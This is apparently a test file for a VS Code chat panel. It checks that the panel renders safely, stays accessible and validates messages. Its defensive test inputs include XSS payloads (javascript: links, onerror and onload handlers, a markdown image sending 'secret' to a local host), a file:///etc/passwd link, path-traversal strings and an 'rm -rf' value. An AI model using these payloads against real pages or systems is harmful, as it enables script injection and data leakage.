import assert from 'node:assert/strict';
import { test } from 'node:test';
import { codeBlocks } from '../../src/core/common/codeBlocks.ts';
import { parsePageMessage } from '../../src/protocol/channel.ts';
import { ChatFromPage, type AnswerTurnView, type ChatState } from '../../src/protocol/chat.ts';
import { HOSTILE, THEMES } from './panelPages.ts';
import {
  ANSWER,
  STATE_FOOTER,
  STATE,
  CONSENT,
  STEP_UP,
  failed,
  waiting,
  open,
  posted,
  COMPARED,
  BLIND,
  VOTED,
  PROBLEMS,
  withCard,
} from './chatRig.ts';

test('a model that has to be set up first: what is missing, and a button for each step', async () => {
  const setup: AnswerTurnView['setup'] = [
    { words: 'mid: OpenRouter has no API key.', next: 'set-key', provider: 'openrouter' },
    { words: 'local: no model on this computer is set to answer questions.', next: 'choose-local', provider: '' },
    { words: '', next: 'get-started', provider: '' },
  ];
  const hosted = await open({ ...STATE, turns: [{ ...failed, words: 'Nothing was sent.', next: 'retry', setup }] });
  const card = hosted.page.getByRole('region', { name: 'Set up a model' });
  assert.deepEqual(
    await card.locator('li').allInnerTexts(),
    setup.slice(0, 2).map(({ words }) => words),
  );
  await card.getByRole('button', { name: 'Set API key for OpenRouter', exact: true }).click();
  await card.getByRole('button', { name: 'Choose a local model' }).click();
  await card.getByRole('button', { name: 'Get started' }).click();
  assert.deepEqual(await posted(hosted), [
    { kind: 'nextStep', turnId: 'a2', next: 'set-key', provider: 'openrouter' },
    { kind: 'nextStep', turnId: 'a2', next: 'choose-local' },
    { kind: 'nextStep', turnId: 'a2', next: 'get-started' },
  ]);
});

test('nothing moves where the user wants less motion', async () => {
  const hosted = await open({ ...STATE, busy: 'a3', turns: [...STATE.turns, waiting] });
  const moving = (): Promise<number> =>
    hosted.page.evaluate(() => document.getAnimations().filter(({ playState }) => playState === 'running').length);
  await hosted.page.locator('article.answer[aria-busy=true]').waitFor();
  assert.ok((await moving()) > 0, 'an answer that is waited for moves something');
  // As VS Code marks its webviews by `workbench.reduceMotion`.
  await hosted.page.evaluate(() => document.body.classList.add('vscode-reduce-motion'));
  await hosted.page.waitForFunction(() => !document.getAnimations().some(({ playState }) => playState === 'running'));
});

test('a notice can be closed, and comes back when it says something else; that of an untrusted workspace stays', async () => {
  const hosted = await open();
  const shown = () => hosted.page.locator('.notice').allInnerTexts();
  await hosted.send({ kind: 'state', state: { ...STATE, notice: 'Demo models.' } });
  await hosted.page.getByRole('button', { name: 'Close this notice' }).click();
  assert.deepEqual(await shown(), []);
  await hosted.send({ kind: 'state', state: { ...STATE, notice: 'Demo models.' } });
  assert.deepEqual(await shown(), [], 'closed stays closed');
  assert.deepEqual(await hosted.page.evaluate('window.kept'), { draft: '', closedNotice: 'Demo models.' });
  await hosted.send({ kind: 'state', state: { ...STATE, notice: 'The ledger was repaired.' } });
  assert.deepEqual(await shown(), ['The ledger was repaired.']);
  await hosted.send({ kind: 'state', state: { ...STATE, notice: 'Not trusted.', noticeNext: 'trust' } });
  await hosted.page.locator('.notice', { hasText: 'Not trusted.' }).waitFor();
  assert.equal(await hosted.page.getByRole('button', { name: 'Close this notice' }).count(), 0);
});

/** Colors of VS Code's default themes of 2026, from theme-defaults of 4.139, whose `button.border` is that of the focus. */
const THEMES_2026 = {
  'Light 2026': {
    'button-border': '#0069CC',
    'button-secondaryBorder': '#EAEAEA',
    'button-secondaryBackground': '#EAEAEA',
    focusBorder: '#0069CC',
    'widget-border': '#E2E2E5',
    'input-border': '#D8D8D866',
    'menu-border': '#E4E5E6',
  },
  'Dark 2026': {
    'button-border': '#297AA0',
    'button-secondaryBorder': '#333536',
    focusBorder: '#3994BCB3',
    'widget-border': '#2A2B2C',
    'input-border': '#333536',
    'menu-border': '#2A2B2C',
  },
} as const;

test('in the default themes of 2026 nothing without the focus has a border like that of the focus', async () => {
  const hosted = await open({
    ...STATE,
    turns: [...STATE.turns, failed],
    notice: 'This workspace is not trusted.',
    noticeNext: 'trust',
    consent: CONSENT,
  });
  await hosted.page.getByRole('button', { name: 'Allow' }).waitFor();
  for (const [name, colors] of Object.entries(THEMES_2026)) {
    const found = await hosted.page.evaluate(
      (values) => {
        const [root, active] = [document.documentElement, document.activeElement];
        for (const [key, value] of Object.entries(values)) root.style.setProperty(`--vscode-${key}`, value);
        const probe = document.body.appendChild(document.createElement('i'));
        const colorOf = (value: string): string => {
          probe.style.color = value;
          return getComputedStyle(probe).color;
        };
        const looksFocused = [values['focusBorder'], values['button-border']].map((value) => colorOf(value ?? ''));
        const secondary = colorOf(values['button-secondaryBorder'] ?? '');
        const bordered = [...document.querySelectorAll('body *')].filter((node) => {
          const { borderTopStyle, borderTopWidth, borderTopColor, backgroundColor } = getComputedStyle(node);
          const isFilled = backgroundColor !== 'rgba(0, 0, 0, 0)' && node.matches('.button:not(.secondary)');
          if (borderTopStyle === 'none' || borderTopWidth === '0px' || isFilled) return false;
          return !node.contains(active) && looksFocused.includes(borderTopColor);
        });
        const buttons = [...document.querySelectorAll('.button.secondary')].map(
          (node) => getComputedStyle(node).borderTopColor === secondary,
        );
        probe.remove();
        return { bordered: bordered.map((node) => node.outerHTML.slice(0, 80)), buttons };
      },
      colors as Readonly<Record<string, string>>,
    );
    assert.deepEqual(found.bordered, [], name);
    assert.ok(found.buttons.length >= 2 && found.buttons.every(Boolean), name);
  }
  // The card had the focus from the start, and looks like others once it has gone on.
  await hosted.page.keyboard.press('Tab');
  const border = await hosted.page.locator('.consent').evaluate((card) => getComputedStyle(card).borderTopColor);
  assert.equal(border, 'rgb(42, 43, 44)');
});

test('axe-core finds nothing in any state or theme, and nothing is wider than the page', async () => {
  const states: Record<string, ChatState> = {
    empty: { ...STATE, turns: [], chips: [], thread: { id: 't0', title: '' } },
    answered: STATE,
    waiting: { ...STATE, busy: 'a3', turns: [...STATE.turns, waiting] },
    failed: {
      ...STATE,
      turns: [...STATE.turns, failed],
      notice: 'This workspace is not trusted.',
      noticeNext: 'trust',
    },
    consent: { ...STATE, consent: CONSENT },
    stepUp: { ...STATE, consent: STEP_UP },
    compared: COMPARED,
    blind: BLIND,
    voted: VOTED,
    clean: withCard({ ...PROBLEMS, state: 'clean', problems: [], canFix: false }),
    applied: withCard(PROBLEMS),
    undone: withCard({ ...PROBLEMS, state: 'undone', problems: [], canUndo: false, canFix: false }),
    folded: {
      ...STATE,
      turns: [
        ...STATE.turns,
        {
          role: 'summary',
          id: 'f1',
          words: 'The questions above (6) are sent as a summary',
          text: '- notes',
          detail: 'by m',
        },
      ],
      contextMeter: {
        ...STATE.contextMeter!,
        level: 'near',
        share: '96%',
        used: 0.96,
        warning: 'The oldest questions are summarized.',
      },
    },
  };
  for (const [name, state] of Object.entries(states)) {
    const hosted = await open(state, 240);
    assert.equal(await hosted.overflow(), 0, `${name} at 240 px`);
    for (const theme of THEMES) {
      await hosted.setTheme(theme);
      assert.deepEqual(await hosted.axe(), [], `${name} in ${theme}`);
    }
    assert.deepEqual(hosted.errors, []);
    assert.deepEqual(await hosted.violations(), []);
  }
});

/** What a model could send to make the page do something; `![x](…)` and the like would load a picture. */
const PAYLOADS = [
  ...HOSTILE,
  '![x](http://127.0.0.1:1/?d=secret)',
  '<img srcset="http://127.0.0.1:1/a 1x">',
  '[a](javascript:window.pwned=1) [b](command:x) [c](vscode://x) [d](file:///etc/passwd) [e](data:text/html,x)',
  '<picture><source srcset=http://127.0.0.1:1/></picture><video poster=http://127.0.0.1:1/></video>',
  '<a href="javascript:window.pwned=1">x</a><form action=http://127.0.0.1:1/><input type=image src=http://127.0.0.1:1/></form>',
  '<link rel=prefetch href=http://127.0.0.1:1/><meta http-equiv=refresh content="0;url=http://127.0.0.1:1/">',
  '```html\n<script>window.pwned=1</script>\n```',
  '| <img src=x onerror=window.pwned=1> |\n|---|\n| <svg onload=window.pwned=1> |',
  '<table background=http://127.0.0.1:1/><style>@import "http://127.0.0.1:1/"</style></table>',
];

test('T06 T09 nothing that a model, a file or a server says becomes an element, runs, or is fetched', async () => {
  const hosted = await open();
  for (const text of PAYLOADS) {
    await hosted.send({
      kind: 'state',
      state: {
        ...STATE,
        thread: { id: 't1', title: text },
        notice: text,
        threads: [{ id: 't1', title: text, updatedAt: 1, pinned: true, cost: '$0.02' }],
        chips: [{ id: 'c', label: text, tokens: 1, detail: text }],
        tiers: STATE.tiers.map((tier) => ({ ...tier, model: text, state: text, price: text })),
        turns: [
          { role: 'user', id: 'q', text, chips: [{ id: 'c', label: text, tokens: 1 }] },
          {
            ...ANSWER,
            id: 'a',
            text,
            reasoning: text,
            model: text,
            provider: text,
            words: text,
            footer: { ...STATE_FOOTER, cost: text, fallback: text, notes: [text] },
          },
        ],
      },
    });
    const { ran, elements } = await hosted.harm();
    assert.equal(ran, false, text);
    assert.deepEqual(
      elements.filter((html) => !/^<a [^>]*href="https?:/.test(html)),
      [],
      text,
    );
    assert.deepEqual(await hosted.violations(), [], text);
  }
  assert.deepEqual(hosted.errors, []);
});

test('H5 a stored thread with answers without end opens at once, and shows all of them', async () => {
  const pumps = ['!', '> ', '1. ', 'a_a_a_', '[a](', '- a\n'];
  const turns = pumps.map((pump, i) => ({
    ...ANSWER,
    id: `h${i}`,
    text: `${pump.repeat(Math.ceil(131_072 / pump.length))}\n\n\`\`\`ts\nlast ${i}\n\`\`\`\n`,
  }));
  const hosted = await open({ ...STATE, turns: [] });
  const begun = performance.now();
  await hosted.send({ kind: 'state', state: { ...STATE, turns } });
  await hosted.page
    .locator('article.answer')
    .nth(pumps.length - 1)
    .waitFor();
  await hosted.page.locator('textarea').first().fill('still here');
  const ms = performance.now() - begun;
  assert.ok(ms < 15_000, `${Math.round(ms)} ms`);
  assert.deepEqual(hosted.errors, []);
});

test('the page and the host count the code blocks alike', async () => {
  const text =
    '```a\n1\n```\n\n- item\n\n  ~~~b\n  2\n  ~~~\n\n> ````c\n> ```\n> 3\n> ````\n\n    indented 4\n\n```d\nnever closed 5';
  const blocks = codeBlocks(text);
  assert.deepEqual(
    blocks.map((block) => block.language),
    ['a', 'b', 'c', '', 'd'],
  );
  const hosted = await open({ ...STATE, turns: [{ ...ANSWER, text }] });
  const shown = await hosted.page.locator('.code-block pre').allInnerTexts();
  assert.deepEqual(
    shown.map((code) => code.trimEnd()),
    blocks.map((block) => block.text.trimEnd()),
  );
  for (let i = 0; i < blocks.length; i++) {
    await hosted.page.locator('.code-block').nth(i).getByRole('button', { name: 'Copy code' }).click();
    assert.deepEqual(await posted(hosted), [{ kind: 'useCode', use: 'copy', turnId: 'a1', block: i }]);
  }
});

test('T10 messages that are not on the list are dropped', () => {
  for (const junk of [
    null,
    1,
    'ask',
    {},
    { kind: 'ask' },
    { kind: 'run', command: 'x' },
    { kind: 'useCode', use: 'insert', turnId: 'a', block: -1 },
    { kind: 'useCode', use: 'run', turnId: 'a', block: 0 },
    { kind: 'ask', text: 'x'.repeat(3 * 1024 * 1024), tier: 'mid' },
    { kind: 'ask', text: 'x', tier: 'root' },
    { kind: 'useCode', use: 'insert', turnId: '../x', block: 0 },
    { kind: 'useCode', use: 'insert', turnId: 'a', block: 0.5, text: 'rm -rf' },
    { kind: 'openFile', turnId: 'a', path: 'x'.repeat(500) },
    { kind: 'attachFiles', uris: Array.from({ length: 99 }, () => 'file:///a') },
    { kind: 'attachImage', name: '', mime: 'image/svg+xml', data: 'AAAA' },
  ])
    assert.equal(parsePageMessage(ChatFromPage, junk), undefined, JSON.stringify(junk)?.slice(0, 60));
});

test('T10 a thousand random messages: what is let through has exactly the shape of its kind', () => {
  let seed = 7;
  const random = (n: number): number => (seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648) % n;
  const kinds = ChatFromPage.options.map(({ entries }) => entries.kind.literal as string);
  const values = ['', 'x', 'mid', 'auto', '../../etc/passwd', -1, 0, 1e9, null, true, [], ['file:///a'], { a: 1 }, NaN];
  const names = [
    'text',
    'tier',
    'turnId',
    'block',
    'use',
    'path',
    'line',
    'uris',
    'threadId',
    'seq',
    'query',
    '__proto__',
  ];
  let through = 0;
  for (let i = 0; i < 1_000; i++) {
    const message: Record<string, unknown> = { kind: kinds[random(kinds.length)] };
    for (let n = random(5); n > 0; n--) message[names[random(names.length)] ?? ''] = values[random(values.length)];
    const parsed = parsePageMessage(ChatFromPage, message) as Record<string, unknown> | undefined;
    if (!parsed) continue;
    through++;
    for (const [name, value] of Object.entries(parsed)) {
      if (name === 'turnId' || name === 'threadId') assert.match(String(value), /^[\w.:-]{1,80}$/);
      if (name === 'block') assert.ok(Number.isInteger(value) && Number(value) >= 0);
      if (name === 'tier') assert.ok(['auto', 'local', 'mid', 'frontier'].includes(String(value)));
    }
  }
  assert.ok(through > 0 && through < 700, `${through} of 1,000 were let through`);
});
